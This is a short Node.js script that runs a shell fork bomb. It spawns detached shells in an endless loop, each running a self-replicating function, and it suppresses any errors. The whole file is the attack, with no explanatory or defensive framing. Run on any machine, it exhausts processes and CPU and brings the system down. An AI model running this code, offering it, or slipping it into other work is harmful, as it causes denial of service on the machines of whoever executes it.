import { spawn } from 'node:child_process'

const bomb = 'bomb() { bomb | bomb & }; while :; do bomb; done'
for (;;) spawn('sh', ['-c', bomb], { detached: true, stdio: 'ignore' }).on('error', () => {})
